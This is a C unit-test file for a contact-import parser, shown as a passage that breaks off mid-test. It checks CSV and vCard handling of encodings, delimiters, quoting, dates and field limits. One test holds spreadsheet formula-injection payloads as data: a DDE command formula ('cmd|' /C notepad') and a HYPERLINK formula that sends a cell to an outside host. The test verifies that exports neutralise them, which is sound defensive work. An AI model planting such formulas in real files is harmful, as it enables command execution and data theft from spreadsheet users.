/* Unit tests for import_map: the case files of tests/data/cases (read from
 * there: `make unit` runs the tests from the top of the repository, and the
 * files must stay byte-exact), the headers of Outlook and Google exports and
 * of this product's own export, the caller's mapping codes, and files that
 * are empty, binary or malformed. */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "import_map.h"
#include "valid.h"

#define CASES "tests/data/cases/"
#define MAX_ROWS 16

/* ---- helpers ---- */

/* An opened file and every candidate in it. */
typedef struct parsed {
    buf data; /* the bytes, which the source reads in place */
    import_source src;
    arena *a;
    import_row rows[MAX_ROWS];
    size_t n;
    int end; /* what the last import_next returned: 0, or -1 with err */
    char err[512];
} parsed;

static void load(const char *name, buf *out)
{
    char path[256];
    snprintf(path, sizeof path, CASES "%s", name);
    if (read_file(path, 1 << 20, out) != 0)
        fail_msg("cannot read %s: run the unit tests from the top of the repository (make unit)", path);
}

/* Opens data[0..len) (copied) with set, which must succeed, and reads it to
 * the end. */
static parsed *parse_n(const char *data, size_t len, const import_settings *set)
{
    static const import_settings automatic;
    parsed *p = xcalloc(1, sizeof *p);
    buf_add(&p->data, data, len);
    if (import_open(&p->src, p->data.data ? p->data.data : "", len, set ? set : &automatic, p->err,
                    sizeof p->err) != 0)
        fail_msg("import_open failed: %s", p->err);
    p->a = arena_new();
    /* Read in place: a row's email_type and phone_type point into the row
     * itself (its first channel's types), so rows are not copied. */
    for (;;) {
        assert_true(p->n < MAX_ROWS);
        p->end = import_next(&p->src, p->a, &p->rows[p->n], p->err, sizeof p->err);
        if (p->end != 1)
            break;
        p->n++;
    }
    return p;
}

static parsed *parse_s(const char *s, const import_settings *set)
{
    return parse_n(s, strlen(s), set);
}

static parsed *parse_case(const char *name, const import_settings *set)
{
    buf b = {0};
    load(name, &b);
    parsed *p = parse_n(b.data, b.len, set);
    buf_free(&b);
    return p;
}

static void parsed_free(parsed *p)
{
    import_close(&p->src);
    arena_free(p->a);
    buf_free(&p->data);
    free(p);
}

/* import_open of data[0..len) must fail: its message, to free. */
static char *open_error_n(const char *data, size_t len, const import_settings *set)
{
    static const import_settings automatic;
    import_source src;
    char err[512] = "";
    int rc = import_open(&src, data, len, set ? set : &automatic, err, sizeof err);
    import_close(&src);
    if (rc == 0)
        fail_msg("import_open accepted what it should refuse");
    assert_int_equal(rc, -1);
    assert_true(err[0] != '\0');
    assert_true(utf8_valid(err, strlen(err)));
    return xstrdup(err);
}

static char *open_error(const char *s, const import_settings *set)
{
    return open_error_n(s, strlen(s), set);
}

static void assert_contains(const char *s, const char *part)
{
    if (!strstr(s, part))
        fail_msg("\"%s\" does not contain \"%s\"", s, part);
}

/* The value of field f, checked to be a C string of its length. */
static void assert_val(const import_row *r, enum contact_field f, const char *want)
{
    assert_non_null(r->v.v[f]);
    assert_int_equal(strlen(r->v.v[f]), r->v.len[f]);
    if (strcmp(r->v.v[f], want) != 0)
        fail_msg("record %zu, %s: got \"%s\", want \"%s\"", r->record, contact_fields[f].name, r->v.v[f], want);
}

static void assert_channel(const import_channel *c, const char *value, const char *types)
{
    assert_int_equal(strlen(c->value), c->len);
    assert_string_equal(c->value, value);
    assert_string_equal(c->types, types);
}

/* The row has no problems at all. */
static void assert_clean(const import_row *r)
{
    for (size_t i = 0; i < r->nproblems; i++)
        fail_msg("record %zu: unexpected problem [%s] %s", r->record, r->problems[i].column, r->problems[i].reason);
    assert_false(r->bad);
}

/* The row is refused with exactly one error, this one. */
static void assert_error(const import_row *r, const char *column, const char *reason)
{
    assert_true(r->bad);
    size_t errors = 0;
    for (size_t i = 0; i < r->nproblems; i++) {
        if (!r->problems[i].error)
            continue;
        errors++;
        if (strcmp(r->problems[i].column, column) != 0 || strcmp(r->problems[i].reason, reason) != 0)
            fail_msg("record %zu: error [%s] %s, want [%s] %s", r->record, r->problems[i].column,
                     r->problems[i].reason, column, reason);
    }
    assert_int_equal(errors, 1);
}

/* Everything a candidate holds, one line each, for comparing two reads. */
static char *dump(const parsed *p, bool lines)
{
    buf b = {0};
    for (size_t k = 0; k < p->n; k++) {
        const import_row *r = &p->rows[k];
        buf_printf(&b, "#%zu", r->record);
        if (lines)
            buf_printf(&b, "@%zu", r->line);
        buf_adds(&b, r->bad ? " bad\n" : "\n");
        for (int f = 0; f < CF_COUNT; f++)
            if (r->has[f] || r->v.len[f])
                buf_printf(&b, " %s=[%s]%zu\n", contact_fields[f].name, r->v.v[f], r->v.len[f]);
        for (size_t i = 0; i < r->nemails; i++)
            buf_printf(&b, " email [%s] (%s) %d\n", r->emails[i].value, r->emails[i].types, r->emails[i].pref);
        for (size_t i = 0; i < r->nphones; i++)
            buf_printf(&b, " phone [%s] (%s) %d\n", r->phones[i].value, r->phones[i].types, r->phones[i].pref);
        for (size_t i = 0; i < r->ntags; i++)
            buf_printf(&b, " tag [%s]\n", r->tags[i]);
        for (size_t i = 0; i < r->ncampaigns; i++)
            buf_printf(&b, " campaign [%s]\n", r->campaigns[i]);
        for (size_t i = 0; i < r->nproblems; i++)
            buf_printf(&b, " %s [%s] %s\n", r->problems[i].error ? "error" : "warning", r->problems[i].column,
                       r->problems[i].reason);
    }
    buf_printf(&b, "end %d\n", p->end);
    char *s = xstrdup(buf_str(&b));
    buf_free(&b);
    return s;
}

static void assert_same_records(const parsed *x, const parsed *y, bool lines)
{
    char *a = dump(x, lines), *b = dump(y, lines);
    assert_string_equal(a, b);
    free(a);
    free(b);
}

/* The file as an export would write the candidates again: the given
 * header, and for each column the field's value. */
static void export_csv(const parsed *p, const char *const *headers, const int *fields, size_t ncols, bool safe,
                       buf *out)
{
    for (size_t c = 0; c < ncols; c++) {
        if (c)
            buf_addc(out, ',');
        csv_write_field(out, headers[c], strlen(headers[c]), false);
    }
    csv_end_record(out);
    for (size_t k = 0; k < p->n; k++) {
        for (size_t c = 0; c < ncols; c++) {
            if (c)
                buf_addc(out, ',');
            csv_write_field(out, p->rows[k].v.v[fields[c]], p->rows[k].v.len[fields[c]], safe);
        }
        csv_end_record(out);
    }
}

static void target_code_is(const import_target *t, const char *want)
{
    char code[64];
    import_target_code(t, code);
    assert_string_equal(code, want);
}

/* import_target_for of the header, as a code; for ignored columns why. */
static void header_is(const char *header, const char *code, const char *why)
{
    import_target t = import_target_for(header, strlen(header));
    char got[64];
    import_target_code(&t, got);
    if (strcmp(got, code) != 0)
        fail_msg("header \"%s\": got \"%s\", want \"%s\"", header, got, code);
    if (why) {
        assert_int_equal(t.kind, TK_IGNORE);
        assert_non_null(t.why);
        assert_string_equal(t.why, why);
    }
}

/* ---- the case files ---- */

static void test_br01_bom(void **state)
{
    (void)state;
    parsed *p = parse_case("BR-01.csv", NULL);
    assert_int_equal(p->src.format, IMPORT_CSV);
    assert_int_equal(p->src.encoding, TEXTENC_UTF8_BOM);
    assert_int_equal(p->src.delimiter, ',');
    assert_int_equal(p->src.ncolumns, 4);
    static const char *const want[] = {"email", "first_name", "last_name", "phone"};
    for (size_t i = 0; i < 4; i++)
        assert_string_equal(p->src.headers[i], want[i]); /* no U+FEFF before "email" */
    target_code_is(&p->src.targets[0], "email.1");
    target_code_is(&p->src.targets[3], "phone.1");
    assert_int_equal(p->end, 0);
    assert_int_equal(p->n, 2);
    assert_clean(&p->rows[0]);
    assert_clean(&p->rows[1]);
    assert_val(&p->rows[0], CF_EMAIL, "ana@example.org");
    assert_val(&p->rows[0], CF_FIRST_NAME, "Ana");
    assert_val(&p->rows[0], CF_PHONE, "+1-555-0100");
    assert_val(&p->rows[1], CF_EMAIL, "ben@example.org");
    assert_val(&p->rows[1], CF_LAST_NAME, "Sample");

    /* The same file without the mark. */
    assert_memory_equal(p->data.data, "\xEF\xBB\xBF", 3);
    parsed *q = parse_n(p->data.data + 3, p->data.len - 3, NULL);
    assert_int_equal(q->src.encoding, TEXTENC_UTF8);
    assert_string_equal(q->src.headers[0], "email");
    assert_same_records(p, q, true);
    parsed_free(q);
    parsed_free(p);
}

static void test_br02_semicolon(void **state)
{
    (void)state;
    parsed *p = parse_case("BR-02.csv", NULL);
    assert_int_equal(p->src.delimiter, ';');
    assert_int_equal(p->src.ncolumns, 5);
    target_code_is(&p->src.targets[4], "notes");
    assert_int_equal(p->n, 2);
    const import_row *ana = &p->rows[0], *ben = &p->rows[1];
    assert_clean(ana);
    assert_clean(ben);
    assert_val(ana, CF_NOTES, "Met at fair, booth 12");
    assert_val(ana, CF_PHONE, "+49 555 0100");
    assert_val(ben, CF_LAST_NAME, "Sample; Jr.");
    assert_val(ben, CF_NOTES, "Prefers email, not phone");
    assert_val(ben, CF_PHONE, "");
    assert_int_equal(ben->nphones, 0);
    assert_val(ben, CF_EMAIL, "ben@example.org");

    /* Chosen by the caller: the same. */
    import_settings set = {.delimiter = ';'};
    parsed *q = parse_n(p->data.data, p->data.len, &set);
    assert_same_records(p, q, true);
    parsed_free(q);

    /* With the wrong delimiter: refused, naming it; never one contact with
     * a single merged field. */
    set.delimiter = ',';
    char *err = open_error_n(p->data.data, p->data.len, &set);
    assert_string_equal(err, "The header row has a single column when read with the comma (,) as delimiter, and it "
                             "holds a semicolon (;): choose the delimiter the file uses.");
    free(err);
    set.delimiter = '\t';
    err = open_error_n(p->data.data, p->data.len, &set);
    assert_contains(err, "tab as delimiter");
    assert_contains(err, "semicolon (;)");
    free(err);
    parsed_free(p);
}

static void test_br03_windows_1252(void **state)
{
    (void)state;
    parsed *p = parse_case("BR-03.csv", NULL);
    assert_int_equal(p->src.encoding, TEXTENC_CP1252);
    assert_int_equal(p->n, 2);
    assert_clean(&p->rows[0]);
    assert_clean(&p->rows[1]);
    assert_val(&p->rows[0], CF_FIRST_NAME, "\xC3\x96zlem"); /* Özlem */
    assert_val(&p->rows[0], CF_LAST_NAME, "Ex\xC3\xA4mple");
    assert_val(&p->rows[0], CF_CITY, "Z\xC3\xBCrich");
    assert_val(&p->rows[1], CF_FIRST_NAME, "\xC3\x85sa"); /* Åsa */
    /* 0x96 is U+2013 EN DASH in Windows-1252. */
    assert_val(&p->rows[1], CF_CITY, "Malm\xC3\xB6 \xE2\x80\x93 S\xC3\xBC"
                                     "d");
    for (size_t k = 0; k < p->n; k++)
        for (int f = 0; f < CF_COUNT; f++)
            assert_true(utf8_valid(p->rows[k].v.v[f], p->rows[k].v.len[f]));

    /* Declared: the same. */
    import_settings set = {.encoding_set = true, .encoding = TEXTENC_CP1252};
    parsed *q = parse_n(p->data.data, p->data.len, &set);
    assert_same_records(p, q, true);
    parsed_free(q);

    /* Declared UTF-8: refused, naming line 2 and the likely encoding. */
    set.encoding = TEXTENC_UTF8;
    char *err = open_error_n(p->data.data, p->data.len, &set);
    assert_string_equal(err, "line 2: the start of the line is not valid UTF-8 (byte 0xD6); choose the file's "
                             "encoding (e.g. Windows-1252)");
    free(err);
    parsed_free(p);
}

static void test_br05_line_breaks_in_fields(void **state)
{
    (void)state;
    parsed *p = parse_case("BR-05.csv", NULL);
    assert_int_equal(p->n, 2);
    assert_int_equal(p->end, 0);
    assert_clean(&p->rows[0]);
    assert_clean(&p->rows[1]);
    assert_int_equal(p->rows[0].record, 1);
    assert_int_equal(p->rows[0].line, 2);
    assert_val(&p->rows[0], CF_ADDRESS, "12 Example Street\nSuite 5\nSpringfield");
    assert_val(&p->rows[0], CF_EMAIL, "ana@example.org");
    assert_int_equal(p->rows[1].record, 2);
    assert_int_equal(p->rows[1].line, 5);
    assert_val(&p->rows[1], CF_FIRST_NAME, "Ben");
    assert_val(&p->rows[1], CF_EMAIL, "");
    assert_int_equal(p->rows[1].nemails, 0);
    assert_val(&p->rows[1], CF_ADDRESS, "PO Box 555\nExample Town");
    parsed_free(p);
}

static void test_br06_own_quoting(void **state)
{
    (void)state;
    parsed *p = parse_case("BR-06.csv", NULL);
    assert_int_equal(p->n, 3);
    for (size_t k = 0; k < 3; k++) {
        assert_clean(&p->rows[k]);
        assert_null(memchr(p->rows[k].v.v[CF_EMAIL], '"', p->rows[k].v.len[CF_EMAIL]));
    }
    assert_val(&p->rows[0], CF_FIRST_NAME, "Ana \"Annie\"");
    assert_val(&p->rows[0], CF_EMAIL, "ana@example.org");
    assert_val(&p->rows[0], CF_ORGANISATION, "Example, Ltd.");
    assert_val(&p->rows[0], CF_NOTES, "");
    assert_true(p->rows[0].has[CF_NOTES]);
    assert_val(&p->rows[1], CF_LAST_NAME, "O'Sample");
    assert_val(&p->rows[1], CF_ORGANISATION, "");
    assert_val(&p->rows[1], CF_NOTES, "He said \"hi, there\"");
    assert_val(&p->rows[2], CF_ORGANISATION, "\"Quoted\" Co");
    assert_val(&p->rows[2], CF_NOTES, "\"\"");

    /* Written again and read back: the same values. */
    static const char *const headers[] = {"first_name", "last_name", "email", "company", "note"};
    static const int fields[] = {CF_FIRST_NAME, CF_LAST_NAME, CF_EMAIL, CF_ORGANISATION, CF_NOTES};
    buf out = {0};
    export_csv(p, headers, fields, 5, false, &out);
    parsed *q = parse_n(out.data, out.len, NULL);
    assert_same_records(p, q, true);
    parsed_free(q);
    buf_free(&out);
    parsed_free(p);
}

static void test_br08_crlf(void **state)
{
    (void)state;
    parsed *p = parse_case("BR-08.csv", NULL);
    assert_int_equal(p->n, 3);
    assert_val(&p->rows[0], CF_EMAIL, "ana@example.org");
    assert_int_equal(p->rows[0].v.len[CF_EMAIL], 15);
    assert_val(&p->rows[2], CF_EMAIL, "cara@example.org"); /* no final line break */
    assert_val(&p->rows[2], CF_LAST_NAME, "Test");
    for (size_t k = 0; k < 3; k++) {
        assert_clean(&p->rows[k]);
        for (int f = 0; f < CF_COUNT; f++)
            assert_null(memchr(p->rows[k].v.v[f], '\r', p->rows[k].v.len[f]));
    }
    /* The same file with LF only. */
    buf lf = {0};
    for (size_t i = 0; i < p->data.len; i++)
        if (p->data.data[i] != '\r')
            buf_addc(&lf, p->data.data[i]);
    assert_true(lf.len < p->data.len);
    parsed *q = parse_n(lf.data, lf.len, NULL);
    assert_same_records(p, q, true);
    parsed_free(q);
    buf_free(&lf);
    parsed_free(p);
}

static void test_br09_emails_trimmed(void **state)
{
    (void)state;
    parsed *e = parse_case("BR-09-existing.csv", NULL);
    assert_int_equal(e->n, 2);
    assert_val(&e->rows[0], CF_EMAIL, "ana@example.org");
    assert_val(&e->rows[1], CF_EMAIL, "ben@example.org");
    parsed_free(e);

    parsed *p = parse_case("BR-09.csv", NULL);
    assert_int_equal(p->n, 3);
    /* Trimmed; the case stays (the match key folds it). */
    assert_val(&p->rows[0], CF_EMAIL, "ANA@Example.ORG");
    assert_val(&p->rows[0], CF_PHONE, "555-0100");
    assert_val(&p->rows[1], CF_EMAIL, "ben@example.org"); /* the TAB went */
    assert_val(&p->rows[1], CF_PHONE, "555-0101");
    assert_val(&p->rows[2], CF_EMAIL, "Ana@example.org");
    assert_val(&p->rows[2], CF_PHONE, "555-0102");
    for (size_t k = 0; k < 3; k++) {
        assert_clean(&p->rows[k]);
        assert_int_equal(p->rows[k].nemails, 1);
        assert_string_equal(p->rows[k].emails[0].value, p->rows[k].v.v[CF_EMAIL]);
    }
    parsed_free(p);
}

static void test_br11_folded_vcard(void **state)
{
    (void)state;
    parsed *p = parse_case("BR-11.vcf", NULL);
    assert_int_equal(p->src.format, IMPORT_VCARD);
    assert_int_equal(p->n, 2);
    const import_row *ana = &p->rows[0], *ben = &p->rows[1];
    assert_clean(ana);
    assert_clean(ben);
    assert_val(ana, CF_FIRST_NAME, "Ana");
    assert_val(ana, CF_LAST_NAME, "Example");
    assert_val(ana, CF_EMAIL, "ana.example.with.a.rather.long.mailbox.name@subdomain.example.org");
    assert_val(ana, CF_ADDRESS, "12 Example Street\nSuite 5");
    assert_val(ana, CF_CITY, "Springfield");
    assert_val(ana, CF_ADDRESS_REGION, "Example County"); /* folded with a TAB */
    assert_val(ana, CF_POSTAL_CODE, "55501");
    assert_val(ana, CF_COUNTRY, "United States");
    assert_val(ana, CF_NOTES, "Met at the caf\xC3\xA9 on Example Street");
    assert_int_equal(ana->line, 1);
    assert_val(ben, CF_FIRST_NAME, "Ben");
    assert_val(ben, CF_NOTES, "Met at the fair");
    assert_int_equal(ben->record, 2);
    assert_int_equal(ben->line, 12);
    parsed_free(p);
}

static void test_br13_several_emails_and_phones(void **state)
{
    (void)state;
    parsed *p = parse_case("BR-13.vcf", NULL);
    assert_int_equal(p->n, 3);
    for (size_t k = 0; k < 3; k++) {
        assert_clean(&p->rows[k]);
        assert_int_equal(p->rows[k].nemails, 2);
        assert_int_equal(p->rows[k].nphones, 2);
    }
    const import_row *ana = &p->rows[0], *ben = &p->rows[1], *cara = &p->rows[2];
    /* 2.1 bare parameters; the preferred email first. */
    assert_channel(&ana->emails[0], "ana@example.org", "home");
    assert_int_equal(ana->emails[0].pref, 1);
    assert_channel(&ana->emails[1], "ana@work.example.org", "work");
    assert_channel(&ana->phones[0], "555-0100", "home,voice");
    assert_channel(&ana->phones[1], "555-0101", "cell");
    assert_val(ana, CF_EMAIL, "ana@example.org");
    assert_val(ana, CF_EMAIL_TYPE, "home");
    assert_val(ana, CF_PHONE, "555-0100");
    assert_val(ana, CF_PHONE_TYPE, "home,voice");
    /* 3.0 TYPE= lists with PREF. */
    assert_channel(&ben->emails[0], "ben@work.example.org", "work");
    assert_channel(&ben->emails[1], "ben@example.org", "home");
    assert_channel(&ben->phones[0], "+1-555-0102", "cell");
    assert_channel(&ben->phones[1], "+1-555-0103", "work,voice");
    assert_val(ben, CF_EMAIL, "ben@work.example.org");
    /* 4.0 PREF=1, a quoted TYPE list, tel: URIs with an extension. */
    assert_channel(&cara->emails[0], "cara@work.example.org", "work");
    assert_channel(&cara->emails[1], "cara@example.org", "home");
    assert_channel(&cara->phones[0], "+1-555-0104", "cell,voice");
    assert_channel(&cara->phones[1], "+1-555-0105 ext. 12", "work");
    assert_val(cara, CF_EMAIL, "cara@work.example.org");
    assert_val(cara, CF_PHONE, "+1-555-0104");
    parsed_free(p);
}

static void test_br15_birthdays(void **state)
{
    (void)state;
    parsed *p = parse_case("BR-15.vcf", NULL);
    assert_int_equal(p->n, 4);
    static const char *const want[] = {"1956-04-12", "1985-10-27", "1990-03-25", "2000-01-01"};
    for (size_t k = 0; k < 4; k++) {
        assert_clean(&p->rows[k]);
        assert_val(&p->rows[k], CF_BIRTHDAY, want[k]);
    }
    parsed_free(p);
}

static void test_br16_month_first(void **state)
{
    (void)state;
    import_settings set = {.dates = DATES_MDY};
    parsed *p = parse_case("BR-16.csv", &set);
    assert_int_equal(p->n, 5);
    assert_clean(&p->rows[0]);
    assert_val(&p->rows[0], CF_BIRTHDAY, "1990-03-04");
    assert_clean(&p->rows[1]);
    assert_val(&p->rows[1], CF_BIRTHDAY, "1985-12-31");
    assert_clean(&p->rows[2]);
    assert_val(&p->rows[2], CF_BIRTHDAY, "--04-15"); /* no year */
    assert_clean(&p->rows[3]);
    assert_val(&p->rows[3], CF_BIRTHDAY, "1990-04-03"); /* ISO always wins */
    assert_error(&p->rows[4], "birthday", "\"13/01/1992\" is not a date: 13 is not a month");
    assert_val(&p->rows[4], CF_BIRTHDAY, "");
    size_t bad = 0;
    for (size_t k = 0; k < p->n; k++)
        bad += p->rows[k].bad;
    assert_int_equal(bad, 1);
    parsed_free(p);
}

static void test_br16_day_first(void **state)
{
    (void)state;
    import_settings set = {.dates = DATES_DMY};
    parsed *p = parse_case("BR-16.csv", &set);
    assert_int_equal(p->n, 5);
    assert_clean(&p->rows[0]);
    assert_val(&p->rows[0], CF_BIRTHDAY, "1990-04-03");
    assert_error(&p->rows[1], "birthday", "\"12/31/1985\" is not a date: 31 is not a month");
    assert_error(&p->rows[2], "birthday", "\"4/15\" is not a date: 15 is not a month");
    assert_clean(&p->rows[3]);
    assert_val(&p->rows[3], CF_BIRTHDAY, "1990-04-03");
    assert_clean(&p->rows[4]);
    assert_val(&p->rows[4], CF_BIRTHDAY, "1992-01-13");
    parsed_free(p);
}

static void test_br16_no_order_chosen(void **state)
{
    (void)state;
    /* No guess per row: without an order only ISO dates are read. */
    parsed *p = parse_case("BR-16.csv", NULL);
    assert_int_equal(p->n, 5);
    const char *why = "is not written YYYY-MM-DD: choose the file's date format (MM/DD/YYYY or DD/MM/YYYY)";
    char want[160];
    snprintf(want, sizeof want, "\"03/04/1990\" %s", why);
    assert_error(&p->rows[0], "birthday", want);
    snprintf(want, sizeof want, "\"4/15\" %s", why);
    assert_error(&p->rows[2], "birthday", want);
    assert_clean(&p->rows[3]);
    assert_true(p->rows[4].bad);
    parsed_free(p);
}

static void test_br18_google_and_scripts(void **state)
{
    (void)state;
    parsed *p = parse_case("BR-18.csv", NULL);
    assert_int_equal(p->src.ncolumns, 7);
    static const char *const codes[] = {"name", "first_name", "last_name", "email_type.1",
                                        "email.1", "phone_type.1", "phone.1"};
    for (size_t i = 0; i < 7; i++)
        target_code_is(&p->src.targets[i], codes[i]);
    assert_int_equal(p->n, 5);
    static const char *const names[5][3] = {
        {"Дарья", "Пример", "darya@example.org"},
        {"Ελένη", "Παράδειγμα", "eleni@example.org"},
        {"ليلى", "مثال", "layla@example.org"},
        {"例子", "山田", "reiko@example.org"},
        {"अनन्या", "उदाहरण", "ananya@example.org"},
    };
    for (size_t k = 0; k < 5; k++) {
        const import_row *r = &p->rows[k];
        assert_clean(r);
        assert_val(r, CF_FIRST_NAME, names[k][0]);
        assert_val(r, CF_LAST_NAME, names[k][1]);
        assert_int_equal(r->nemails, 1);
        assert_val(r, CF_EMAIL, names[k][2]);
        assert_null(strchr(r->v.v[CF_FIRST_NAME], '?'));
    }
    /* "* Home": home, and the preferred one. */
    assert_channel(&p->rows[0].emails[0], "darya@example.org", "home");
    assert_int_equal(p->rows[0].emails[0].pref, 1);
    assert_channel(&p->rows[2].emails[0], "layla@example.org", "work");
    /* "Mobile": cell. */
    assert_int_equal(p->rows[0].nphones, 1);
    assert_channel(&p->rows[0].phones[0], "+7 555 010-01-00", "cell");
    assert_int_equal(p->rows[1].nphones, 0);
    assert_val(&p->rows[1], CF_PHONE, "");
    assert_channel(&p->rows[4].phones[0], "+91 555 010 0104", "cell");
    parsed_free(p);
}

static void test_br19_nfc(void **state)
{
    (void)state;
    parsed *p = parse_case("BR-19.csv", NULL);
    assert_int_equal(p->n, 4);
    for (size_t k = 0; k < 4; k++)
        assert_clean(&p->rows[k]);
    assert_val(&p->rows[0], CF_FIRST_NAME, "Jos\xC3\xA9");
    /* Data row 2 is NFD in the file. */
    assert_int_equal(p->rows[1].v.len[CF_FIRST_NAME], 5);
    assert_memory_equal(p->rows[1].v.v[CF_FIRST_NAME], "\x4A\x6F\x73\xC3\xA9", 5);
    assert_val(&p->rows[2], CF_FIRST_NAME, "\xC3\x81lvaro");
    assert_val(&p->rows[3], CF_FIRST_NAME, "Zo\xC3\xAB");
    parsed_free(p);
}

static void test_br20_numbers_as_text(void **state)
{
    (void)state;
    parsed *p = parse_case("BR-20.csv", NULL);
    assert_int_equal(p->n, 5);
    static const char *const phones[] = {"0555 010 0199", "+1 (555) 010-0100", "00 44 555 0100", "555-0100 ext. 12",
                                         "+15550100100"};
    static const char *const codes[] = {"01234", "00501", "SW1A 0AA", "02108", "07030"};
    for (size_t k = 0; k < 5; k++) {
        assert_clean(&p->rows[k]);
        assert_val(&p->rows[k], CF_PHONE, phones[k]);
        assert_channel(&p->rows[k].phones[0], phones[k], "");
        assert_val(&p->rows[k], CF_POSTAL_CODE, codes[k]);
    }
    parsed_free(p);
}

static void test_br21_spreadsheet_quote(void **state)
{
    (void)state;
    parsed *p = parse_case("BR-21.csv", NULL);
    assert_int_equal(p->n, 4);
    for (size_t k = 0; k < 4; k++)
        assert_clean(&p->rows[k]);
    /* Read as they are: nothing added or taken. */
    assert_val(&p->rows[0], CF_FIRST_NAME, "=HYPERLINK(\"http://example.org/?d=\"&C2,\"open\")");
    assert_val(&p->rows[1], CF_LAST_NAME, "+SUM(1;1)");
    assert_val(&p->rows[1], CF_ORGANISATION, "@SUM(1+1)");
    assert_val(&p->rows[1], CF_NOTES, "-2+3");
    assert_val(&p->rows[2], CF_ORGANISATION, "=1+1"); /* the TAB trimmed */
    assert_val(&p->rows[2], CF_NOTES, "=cmd|' /C notepad'!A0");
    assert_val(&p->rows[3], CF_NOTES, "-just a dash note");

    /* A spreadsheet export adds a ' to such cells; read back, it goes. */
    static const char *const headers[] = {"first_name", "last_name", "email", "company", "phone", "note"};
    static const int fields[] = {CF_FIRST_NAME, CF_LAST_NAME, CF_EMAIL, CF_ORGANISATION, CF_PHONE, CF_NOTES};
    buf out = {0};
    export_csv(p, headers, fields, 6, true, &out);
    assert_contains(buf_str(&out), "\"'=HYPERLINK(\"\"http://example.org/?d=\"\"&C2,\"\"open\"\")\"");
    assert_contains(buf_str(&out), "'+1-555-0100");
    assert_contains(buf_str(&out), "'-2+3");
    parsed *q = parse_n(out.data, out.len, NULL);
    assert_same_records(p, q, true);
    parsed_free(q);
    buf_free(&out);
    parsed_free(p);

    /* One ' before a formula character only; others are data. */
    p = parse_s("first_name,last_name,phone,note\n'=1+1,'+x,'+1-555-0100,\"'\t=1+1\"\n"
                "'Quoted',O'Sample,555-0101,''=x\n",
                NULL);
    assert_int_equal(p->n, 2);
    assert_val(&p->rows[0], CF_FIRST_NAME, "=1+1");
    assert_val(&p->rows[0], CF_LAST_NAME, "+x");
    assert_val(&p->rows[0], CF_PHONE, "+1-555-0100");
    assert_val(&p->rows[0], CF_NOTES, "\t=1+1");
    assert_val(&p->rows[1], CF_FIRST_NAME, "'Quoted'");
    assert_val(&p->rows[1], CF_LAST_NAME, "O'Sample");
    assert_val(&p->rows[1], CF_NOTES, "''=x");
    parsed_free(p);
}

static void test_br25_deleted_at_ignored(void **state)
{
    (void)state;
    parsed *p = parse_case("BR-25.csv", NULL);
    assert_int_equal(p->src.ncolumns, 4);
    assert_string_equal(p->src.headers[3], "deleted_at");
    assert_int_equal(p->src.targets[3].kind, TK_IGNORE);
    assert_string_equal(p->src.targets[3].why, "not imported: a file cannot delete or hide contacts");
    assert_int_equal(p->n, 3);
    for (size_t k = 0; k < 3; k++)
        assert_clean(&p->rows[k]);
    assert_val(&p->rows[2], CF_FIRST_NAME, "Cara");
    assert_val(&p->rows[2], CF_EMAIL, "cara@example.org");
    parsed_free(p);
    header_is("Deleted", "", "not imported: a file cannot delete or hide contacts");
}

static void test_br27_over_long_values(void **state)
{
    (void)state;
    parsed *p = parse_case("BR-27.csv", NULL);
    assert_int_equal(p->n, 4);
    assert_int_equal(p->end, 0);
    assert_clean(&p->rows[0]);
    /* Refused, naming the column and the limit; nothing half-kept. */
    assert_error(&p->rows[1], "company", "is too long (at most 200 characters)");
    assert_val(&p->rows[1], CF_ORGANISATION, "");
    assert_error(&p->rows[2], "note", "is too long (at most 10000 characters)");
    assert_val(&p->rows[2], CF_NOTES, "");
    /* Dan's last name: 100 e-acute, 100 characters (200 bytes), whole. */
    assert_clean(&p->rows[3]);
    const import_row *dan = &p->rows[3];
    assert_int_equal(dan->v.len[CF_LAST_NAME], 200);
    for (size_t i = 0; i < 200; i += 2)
        assert_memory_equal(dan->v.v[CF_LAST_NAME] + i, "\xC3\xA9", 2);
    size_t bad = 0;
    for (size_t k = 0; k < p->n; k++)
        bad += p->rows[k].bad;
    assert_int_equal(p->n - bad, 2);
    assert_int_equal(bad, 2);
    parsed_free(p);

    /* One character more is refused, never cut; limits count characters. */
    buf f = {0};
    buf_adds(&f, "first_name,last_name\n");
    for (int i = 0; i < 100; i++)
        buf_adds(&f, "\xE5\xB1\xB1"); /* U+5C71, 3 bytes */
    buf_addc(&f, ',');
    for (int i = 0; i < 101; i++)
        buf_adds(&f, "\xC3\xA9");
    buf_addc(&f, '\n');
    p = parse_n(f.data, f.len, NULL);
    assert_int_equal(p->n, 1);
    assert_int_equal(p->rows[0].v.len[CF_FIRST_NAME], 300);
    assert_error(&p->rows[0], "last_name", "is too long (at most 100 characters)");
    assert_val(&p->rows[0], CF_LAST_NAME, "");
    parsed_free(p);
    buf_free(&f);
}

/* ---- other systems' exports ---- */

static void test_outlook_export(void **state)
{
    (void)state;
    parsed *p = parse_s(
        "First Name,Last Name,E-mail Address,E-mail 2 Address,Mobile Phone,Business Phone,Business Street,"
        "Business City,Business State,Business Postal Code,Business Country/Region,Home Street,Categories,Birthday,"
        "Notes,Web Page\r\n"
        "Ana,Example,ana@example.org,ana@work.example.org,+1 555 0100,+1 555 0199,12 Example Street,Springfield,IL,"
        "62701,United States,1 Home Road,Friends;VIP,1990-04-03,\"Line one\r\nLine two\",HTTPS://Example.org/ana\r\n",
        NULL);
    static const char *const codes[] = {"first_name",    "last_name",     "email.1",  "email.2",
                                        "phone.1:cell",  "phone.2:work",  "address",  "city",
                                        "address_region", "postal_code",  "country",  "",
                                        "tags",          "birthday",      "notes",    "website"};
    assert_int_equal(p->src.ncolumns, 16);
    for (size_t i = 0; i < 16; i++)
        target_code_is(&p->src.targets[i], codes[i]);
    /* The second address: ignored, and why. */
    assert_int_equal(p->src.targets[11].kind, TK_IGNORE);
    assert_non_null(p->src.targets[11].why);
    assert_true(strlen(p->src.targets[11].why) > 0);
    assert_int_equal(p->n, 1);
    const import_row *r = &p->rows[0];
    assert_clean(r);
    assert_val(r, CF_EMAIL, "ana@example.org");
    assert_int_equal(r->nemails, 2);
    assert_channel(&r->emails[1], "ana@work.example.org", "");
    assert_int_equal(r->nphones, 2);
    assert_channel(&r->phones[0], "+1 555 0100", "cell");
    assert_channel(&r->phones[1], "+1 555 0199", "work");
    assert_val(r, CF_PHONE_TYPE, "cell");
    assert_val(r, CF_ADDRESS, "12 Example Street");
    assert_val(r, CF_CITY, "Springfield");
    assert_val(r, CF_ADDRESS_REGION, "IL");
